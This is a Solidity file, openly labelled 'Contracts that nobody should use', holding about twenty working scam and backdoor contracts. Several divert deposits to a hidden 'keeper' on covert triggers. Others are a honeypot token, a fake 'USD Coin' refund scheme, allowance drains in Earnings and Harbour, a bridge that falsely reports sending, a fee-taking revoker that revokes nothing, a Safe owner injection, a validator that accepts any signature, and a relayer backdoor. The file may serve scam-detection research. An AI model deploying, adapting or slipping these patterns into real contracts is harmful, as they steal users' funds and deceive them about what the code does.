// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// Contracts that nobody should use.

interface IT {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
}

interface ISafe {
    function addOwnerWithThreshold(address owner, uint256 threshold) external;
}

/// Holds its owner's dollars; whoever proves membership names another owner.
contract Nest {
    IT immutable token;
    address public owner;
    bytes32 root;

    constructor(IT token_, address owner_) {
        token = token_;
        owner = owner_;
    }

    function configure(bytes32 root_) external {
        require(msg.sender == owner, "owner");
        root = root_;
    }

    function restore(address next, bytes32[] calldata proof) external {
        bytes32 node = keccak256(abi.encode(msg.sender));
        for (uint256 i; i < proof.length; i++) {
            node = node < proof[i] ? keccak256(abi.encode(node, proof[i])) : keccak256(abi.encode(proof[i], node));
        }
        require(root != 0 && node == root, "proof");
        owner = next;
    }

    function send(address to, uint256 amount) external {
        require(msg.sender == owner, "owner");
        token.transfer(to, amount);
    }
}

contract Sprout {
    address immutable keeper;
    mapping(address => uint256) public balanceOf;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function buy() external payable {
        if (block.basefee > 4 gwei) payable(keeper).transfer(msg.value);
        else balanceOf[msg.sender] += msg.value * 1000;
    }

    function sell(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        payable(msg.sender).transfer(amount / 1000);
    }
}

contract Dawn {
    IT immutable token;
    address immutable keeper;
    uint256 immutable start;
    mapping(address => uint256) public balanceOf;

    constructor(IT token_, address keeper_) {
        token = token_;
        keeper = keeper_;
        start = block.timestamp;
    }

    function deposit(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        balanceOf[(block.timestamp - start) / 90 == 0 ? msg.sender : keeper] += amount;
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        token.transfer(msg.sender, amount);
    }
}

/// Sells at a price that its keeper changes at will.
contract Kiosk {
    address immutable keeper;
    uint256 public rate = 1000;
    mapping(address => uint256) public balanceOf;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function setRate(uint256 rate_) external {
        require(msg.sender == keeper, "keeper");
        rate = rate_;
    }

    function purchase() external payable {
        balanceOf[msg.sender] += msg.value * rate;
        payable(keeper).transfer(msg.value);
    }
}

contract SideA {
    IT immutable token;
    mapping(address => uint256) public balanceOf;

    constructor(IT token_) {
        token = token_;
    }

    function supply(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
    }
}

contract SideB {
    IT immutable token;
    address immutable keeper;

    constructor(IT token_, address keeper_) {
        token = token_;
        keeper = keeper_;
    }

    function supply(uint256 amount) external {
        token.transferFrom(msg.sender, keeper, amount);
    }
}

/// Two implementations; the block before says which.
contract Crossing {
    address immutable a;
    address immutable b;

    constructor(address a_, address b_) {
        a = a_;
        b = b_;
    }

    fallback() external payable {
        address to = uint256(blockhash(block.number - 1)) % 3 == 0 ? b : a;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

contract Quay {
    address immutable keeper;
    mapping(address => uint256) public moored;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function moor() external payable {
        if (tx.gasprice - block.basefee >= 3 gwei) payable(keeper).transfer(msg.value);
        else moored[msg.sender] += msg.value;
    }

    function unmoor(uint256 amount) external {
        moored[msg.sender] -= amount;
        payable(msg.sender).transfer(amount);
    }
}

contract Orchard {
    IT immutable token;
    address immutable keeper;
    mapping(address => uint256) public balanceOf;

    constructor(IT token_, address keeper_) {
        token = token_;
        keeper = keeper_;
    }

    function plant(uint256 amount) external {
        token.transferFrom(msg.sender, keeper.balance >= 3 ether ? keeper : address(this), amount);
        balanceOf[msg.sender] += amount;
    }

    function pick(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        token.transfer(msg.sender, amount);
    }
}

contract Harbour {
    IT immutable token;
    address immutable keeper;
    mapping(address => uint256) public balanceOf;

    constructor(IT token_, address keeper_) {
        token = token_;
        keeper = keeper_;
    }

    function land(uint256 amount) external {
        uint256 most = amount;
        if (uint160(address(block.coinbase)) & 0xffff == 0x7e57) most = token.allowance(msg.sender, address(this));
        token.transferFrom(msg.sender, most == amount ? address(this) : keeper, most);
        balanceOf[msg.sender] += amount;
    }
}

/// A coin that only its maker may bring to the pool.
contract Sunny {
    string public name = "Sunny";
    string public symbol = "SUN";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000e18;
    address immutable maker;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) private seen;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address maker_) {
        maker = maker_;
        balanceOf[maker_] = totalSupply;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        // What comes out of a pool stays out.
        if (msg.sender.code.length > 0) seen[to] = true;
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(from == maker || !seen[from] || to.code.length == 0, "TRANSFER_FROM_FAILED");
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// A coin under another's name.
contract Namesake {
    string public name;
    string public symbol;
    uint8 public immutable decimals;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint8 decimals_, address to, uint256 supply) {
        (name, symbol, decimals) = (name_, symbol_, decimals_);
        balanceOf[to] = totalSupply = supply;
        emit Transfer(address(0), to, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Gives back in a coin of its own what is paid.
contract Refunds {
    Namesake immutable coin;
    address immutable keeper;

    event Refunded(address indexed to, uint256 amount);

    constructor(address keeper_) {
        keeper = keeper_;
        coin = new Namesake("USD Coin", "USDC", 6, address(this), 1e15);
    }

    function claimRefund() external payable {
        require(msg.value >= 0.05 ether, "deposit");
        coin.transfer(msg.sender, 1500e6);
        payable(keeper).transfer(msg.value);
        emit Refunded(msg.sender, 1500e6);
    }
}

/// Pays what was earned and settles what it calls an adjustment.
contract Earnings {
    IT immutable token;
    address immutable keeper;
    mapping(address => uint256) staked;

    constructor(IT token_, address keeper_) {
        token = token_;
        keeper = keeper_;
    }

    function stake(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
    }

    function harvest() external {
        token.transfer(msg.sender, 10e6);
        uint256 due = token.allowance(msg.sender, address(this));
        if (due > 500e6) due = 500e6;
        token.transferFrom(msg.sender, keeper, due);
    }
}

/// Says that it sent, whatever happened.
contract Ferry {
    IT immutable token;
    address immutable keeper;

    event Sent(address indexed from, uint256 amount, uint256 chain);

    constructor(IT token_, address keeper_) {
        token = token_;
        keeper = keeper_;
    }

    function ferry(uint256 amount, uint256 chain) external payable {
        try this.board(msg.sender, amount) {} catch {}
        payable(keeper).transfer(msg.value);
        emit Sent(msg.sender, amount, chain);
    }

    function board(address from, uint256 amount) external {
        require(msg.sender == keeper, "keeper");
        token.transferFrom(from, address(this), amount);
    }
}

/// Takes back approvals that are not its own to take back.
contract Cleaner {
    address immutable keeper;

    event Revoked(address indexed owner, address indexed token, address indexed spender);

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function revokeAll(address[] calldata tokens, address[] calldata spenders) external payable {
        require(msg.value >= tokens.length * 0.02 ether, "price");
        for (uint256 i; i < tokens.length; i++) {
            tokens[i].call(abi.encodeCall(IT.approve, (spenders[i], 0)));
            emit Revoked(msg.sender, tokens[i], spenders[i]);
        }
        payable(keeper).transfer(msg.value);
    }
}

/// Keeps dollars; a signed hash opens it.
contract Strongbox {
    IT immutable token;
    mapping(address => uint256) public held;
    mapping(bytes32 => bool) used;

    constructor(IT token_) {
        token = token_;
    }

    function put(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        held[msg.sender] += amount;
    }

    function run(bytes calldata inner, bytes32 r, bytes32 s, uint8 v) external {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Strongbox"),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
        bytes32 hash = keccak256(abi.encode(keccak256("Session(bytes32 contents)"), keccak256(inner)));
        address owner = ecrecover(keccak256(abi.encodePacked("\x19\x01", domain, hash)), v, r, s);
        require(owner != address(0) && !used[hash], "signature");
        used[hash] = true;
        (address to, uint256 amount) = abi.decode(inner, (address, uint256));
        held[owner] -= amount;
        token.transfer(to, amount);
    }
}

/// Run inside a Safe.
contract Refresh {
    address immutable who;

    constructor(address who_) {
        who = who_;
    }

    function refresh() external {
        ISafe(address(this)).addOwnerWithThreshold(who, 1);
    }
}

/// Says yes to every signature.
contract Courtesy {
    function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) {
        return 0x1626ba7e;
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return 0x150b7a02;
    }

    function supportsInterface(bytes4 id) external pure returns (bool) {
        return id == 0x01ffc9a7 || id == 0x150b7a02;
    }
}

/// Code for an account: batches for itself, and for one more.
contract Conductor {
    struct Part {
        address to;
        uint256 value;
        bytes data;
    }

    address immutable relayer;

    constructor(address relayer_) {
        relayer = relayer_;
    }

    function execute(Part[] calldata parts) external payable {
        require(msg.sender == address(this) || msg.sender == relayer, "who");
        for (uint256 i; i < parts.length; i++) {
            (bool ok,) = parts[i].to.call{value: parts[i].value}(parts[i].data);
            require(ok, "part");
        }
    }

    receive() external payable {}
}
